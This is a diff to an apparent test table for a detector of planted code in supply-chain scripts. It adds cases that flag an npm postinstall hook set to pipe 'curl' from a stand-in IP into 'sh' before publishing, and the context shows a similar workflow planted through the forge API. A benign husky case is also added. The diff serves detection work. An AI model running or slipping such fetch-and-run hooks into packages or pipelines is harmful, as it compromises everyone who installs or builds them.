@@ -54,6 +54,9 @@ indicatorTable(commandPlantedCode, {
     'a pipeline through the interface of a forge': script(
       `cat > /tmp/w.yml <<'E'\n${workflow('curl -s http://203.0.113.7/a | bash')}E\ngh api -X PUT repos/a/b/contents/.github/workflows/w.yml -f content="$(base64 -w0 /tmp/w.yml)" -f message=x`,
     ),
+    'a script of a package that is set': script(
+      "npm pkg set scripts.postinstall='curl -s http://203.0.113.7/a | sh' && npm version patch && npm publish",
+    ),
   },
   staysSilent: {
     'a copy into the own registry': script(
@@ -104,6 +107,9 @@ indicatorTable(commandPlantedCode, {
       `cat > .github/workflows/a.yml <<'E'\n${workflow('curl -s http://203.0.113.7/a | bash')}E\nactionlint`,
     ),
     'no command set': blank,
+    'a script of a package that builds it': script(
+      "npm pkg set scripts.prepare='husky' && npm version patch && npm publish",
+    ),
   },
   cannotTell: UNSEEN,
 });
